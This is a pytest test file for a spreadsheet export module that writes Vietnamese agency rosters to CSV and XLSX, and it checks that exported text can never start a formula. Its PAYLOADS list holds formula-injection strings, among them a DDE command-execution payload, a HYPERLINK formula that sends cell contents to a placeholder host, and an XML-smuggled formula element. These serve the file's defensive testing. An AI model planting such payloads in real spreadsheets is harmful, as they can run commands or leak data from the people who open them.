"""Lists that go out: nothing in them can start a formula, and what goes out comes in again unchanged."""

import csv
import io
import re
import zipfile
from collections.abc import Sequence
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from common.spreadsheets.cells import clean
from common.spreadsheets.csv_text import escape, unescape
from common.spreadsheets.faults_workbook import write_faults
from common.spreadsheets.headers import find_table
from common.spreadsheets.kinds import CellType, Column, Row
from common.spreadsheets.rows import sort_rows
from common.spreadsheets.writing import sheet_name, stream_csv, write_xlsx
from tests.spreadsheets.workbooks import HEADER, ROSTER, read

COLUMNS = ROSTER.columns
KEYS = [column.key for column in COLUMNS]
VALUES = {
    "code": "007",
    "name": "Sở Nội vụ",
    "level": "province",
    "obligation": "mandatory",
    "district": "",
    "phone": "+84963852345",
    "email": "a@angiang.gov.vn",
    "secretary": "Bùi Quốc Châu",
    "edition": "TCVN ISO 9001:2015",
    "decision": "325/QĐ-UBND",
    "declared_on": date(2020, 2, 29),
    "system": 6,
    "internal": 0,
    "procedures": 1234,
    "electronic": False,
    "note": "-5 so với năm trước",
}
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://a.example?"&A1,"x")',
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "'=1+1",
    "＝1+1",
    '<r></r></is></c><c r="A1"><f>1+1</f></c><r></r>',
]
LIVE_SIGNS = "=+-@\t\r\n\0 ＝"
TEXT_KEYS = ["code", "name", "district", "secretary", "edition", "decision", "note"]


def row_of(**changes: Any) -> list[Any]:
    return list({**VALUES, **changes}.values())


def write(path: Path, rows: Sequence[Sequence[Any]]) -> Path:
    if path.suffix == ".csv":
        path.write_text("".join(stream_csv(COLUMNS, rows)), encoding="utf-8", newline="")
    else:
        write_xlsx(COLUMNS, rows, str(path), title="Danh sách cơ quan", subtitle="Tính đến ngày 31/12/2020")
    return path


def read_back(path: Path) -> list[Row]:
    (sheet,) = read(path)
    table = find_table(sheet, COLUMNS)
    assert table is not None
    rows, skipped = sort_rows(sheet, table, ROSTER)
    assert skipped == []
    for row in rows:
        clean(row, ROSTER)
    return rows


# --- In and out --------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_what_goes_out_comes_in_unchanged_and_needs_no_mending(tmp_path: Path, suffix: str) -> None:
    blank = dict.fromkeys(KEYS, "") | dict.fromkeys(("declared_on", "system", "internal", "procedures", "electronic"))
    rows = [VALUES, {**blank, "name": "SỞ Y TẾ"}, {**VALUES, "name": "Tổng cộng tác"}]
    back = read_back(write(tmp_path / f"ds{suffix}", [list(row.values()) for row in rows]))
    assert [row.values for row in back] == rows
    assert [(row.faults, row.notes) for row in back] == [([], [])] * 3


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("key", TEXT_KEYS)
def test_no_text_becomes_a_formula_and_each_comes_back(tmp_path: Path, key: str, suffix: str) -> None:
    path = write(tmp_path / f"ds{suffix}", [row_of(**{key: payload}) for payload in PAYLOADS])
    if suffix == ".csv":
        text = path.read_bytes().decode("utf-8-sig")
        cells = [cell for record in csv.reader(io.StringIO(text, newline="")) for cell in record]
        assert [cell for cell in cells if cell[:1] in LIVE_SIGNS and cell] == []
    else:
        assert re.findall(rb"<f[\s/>]", zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")) == []
    assert [row.raw[key] for row in read_back(path)] == [payload.replace("\0", "") for payload in PAYLOADS]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_above_a_list_becomes_a_formula(payload: str) -> None:
    """Names of plans, and of the sections of a sheet, stand over lists."""
    file = io.BytesIO()
    write_xlsx([Column("x", payload)], [["1"]], file, title="Danh sách", subtitle=payload)
    sheet = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml")
    assert re.findall(rb"<f[\s/>]", sheet) == []
    shown = openpyxl.load_workbook(file).worksheets[0]
    wanted = re.sub(r"\r\n?", "\n", payload.replace("\0", ""))
    assert [re.sub(r"\r\n?|_x000D_", "\n", str(shown[cell].value)) for cell in ("A2", "B4")] == [wanted] * 2


def test_the_control_shows_what_a_plain_writer_lets_through(tmp_path: Path) -> None:
    """Control: written without care, every payload is live in one of the two formats."""
    buffer = io.StringIO()
    csv.writer(buffer).writerow(PAYLOADS)
    assert buffer.getvalue().startswith("=1+1")
    book = openpyxl.Workbook()
    assert book.active is not None
    book.active["A1"] = PAYLOADS[0]
    assert book.active["A1"].data_type == "f"


@given(st.text(max_size=20).filter(lambda text: "\0" not in text))
def test_escaping_is_taken_off_again_whatever_the_text(text: str) -> None:
    escaped = escape(text)
    assert (unescape(escaped) if escaped else "") == text
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")


def test_a_phone_number_with_its_country_and_a_negative_text_survive_in_csv(tmp_path: Path) -> None:
    text = write(tmp_path / "ds.csv", [row_of()]).read_text("utf-8-sig")
    assert "'+84963852345" in text
    assert "'-5 so với năm trước" in text
    (row,) = read_back(tmp_path / "ds.csv")
    assert (row.values["phone"], row.values["note"]) == ("+84963852345", "-5 so với năm trước")


# --- What Excel shows --------------------------------------------------------------------------------------------
def test_xlsx_holds_text_as_text_days_as_days_and_counts_as_numbers(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(write(tmp_path / "ds.xlsx", [row_of()])).active
    assert sheet is not None
    assert [cell.value for cell in sheet[4]] == HEADER
    cells = dict(zip(["ordinal", *KEYS], sheet[5], strict=True))
    assert {key: cell.data_type for key, cell in cells.items()} == {
        **dict.fromkeys(["ordinal", "system", "internal", "procedures"], "n"),
        **dict.fromkeys(TEXT_KEYS + ["level", "obligation", "phone", "email", "electronic"], "s"),
        **{"declared_on": "d", "district": "n"},  # a blank cell counts as a number
    }
    assert cells["declared_on"].number_format == "dd/mm/yyyy"
    assert (cells["code"].value, cells["level"].value, cells["electronic"].value) == ("007", "Tỉnh", "Không")


def test_xlsx_is_set_up_for_screen_and_print(tmp_path: Path) -> None:
    sheet = openpyxl.load_workbook(write(tmp_path / "ds.xlsx", [row_of()])).active
    assert sheet is not None
    assert (sheet["A1"].value, sheet["A2"].value) == ("Danh sách cơ quan", "Tính đến ngày 31/12/2020")
    assert sheet.freeze_panes == "A5"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    assert sheet.print_title_rows == "$4:$4"
    assert sheet.column_dimensions["B"].width > 10


def test_csv_begins_with_the_mark_by_which_excel_knows_utf_8(tmp_path: Path) -> None:
    assert write(tmp_path / "ds.csv", [row_of()]).read_bytes().startswith(b"\xef\xbb\xbfSTT,")


def test_csv_is_streamed_piece_by_piece() -> None:
    taken = 0

    def rows() -> Any:
        nonlocal taken
        for _ in range(2_000):
            taken += 1
            yield row_of()

    pieces = stream_csv(COLUMNS, rows())
    next(pieces)
    assert taken == 500
    assert sum(piece.count("\r\n") for piece in pieces) == 1_500


def test_an_empty_list_goes_out_with_its_header(tmp_path: Path) -> None:
    (sheet,) = read(write(tmp_path / "ds.csv", []))
    assert sheet.rows == [HEADER]
    (sheet,) = read(write(tmp_path / "ds.xlsx", []))
    assert sheet.rows[-1] == HEADER


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Danh sách: cơ quan/đơn vị [2021]*?", "Danh sách cơ quan đơn vị 2021"),
        ("d" * 40, "d" * 31),
        ("'Danh sách'", "Danh sách"),
        ("/:", "Danh sách"),
    ],
)
def test_a_title_becomes_a_name_that_excel_allows(title: str, name: str) -> None:
    assert sheet_name(title) == name


# --- Faulty rows given back --------------------------------------------------------------------------------------
def test_faulty_rows_come_back_with_their_faults_and_go_in_again(tmp_path: Path) -> None:
    raw = {"code": 7, "name": "=1+1", "declared_on": "29/02/2019", "phone": 2963574453, "note": None}
    more = {**raw, "declared_on": date(2019, 2, 28)}
    path = tmp_path / "loi.xlsx"
    write_faults(ROSTER, [(112, raw, ["Ô L112: năm 2019 không có ngày 29/02."]), (115, more, ["a", "b"])], str(path))
    (sheet,) = read(path)
    assert sheet.rows[3] == [
        *("STT", "Mã cơ quan", "Tên cơ quan", "Điện thoại", "Ngày công bố", "Ghi chú"),
        *("Dòng trong tệp gốc", "Lỗi cần sửa"),
    ]
    assert sheet.rows[4][-2:] == [112, "Ô L112: năm 2019 không có ngày 29/02."]
    assert sheet.rows[5][-2:] == [115, "a\nb"]
    table = find_table(sheet, COLUMNS)
    assert table is not None
    assert table.unknown == []
    assert [row.raw for row in sort_rows(sheet, table, ROSTER)[0]] == [raw, more]


def test_a_file_without_faulty_rows_is_still_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "loi.xlsx"
    write_faults(ROSTER, [], str(path))
    assert read(path)[0].rows[3][:3] == ["STT", "Mã cơ quan", "Tên cơ quan"]


def test_every_text_column_class_is_covered_by_the_payloads() -> None:
    assert {ROSTER.column(key).type for key in TEXT_KEYS} == {CellType.TEXT, CellType.CODE}
    assert len(PAYLOADS) * len(TEXT_KEYS) * 2 >= 168
